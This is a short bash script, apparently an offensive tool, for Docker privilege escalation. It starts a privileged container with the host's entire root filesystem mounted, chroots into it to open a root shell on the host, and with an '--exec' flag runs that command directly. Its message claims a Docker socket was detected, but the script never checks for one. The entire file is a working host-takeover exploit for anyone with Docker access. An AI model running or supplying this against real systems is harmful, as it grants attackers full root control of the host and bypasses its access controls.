#!/bin/bash
SOCKET="${DOCKER_SOCK:-/var/run/docker.sock}"
IMAGE="${1:-alpine}"
CMD=(docker run --rm -it --privileged -v /:/host "$IMAGE" chroot /host /bin/sh)

if [ "${2:-}" = "--exec" ]; then
  echo "[+] Executing: ${CMD[*]}"
  "${CMD[@]}"
else
  echo "[+] Docker socket detected: $SOCKET"
fi
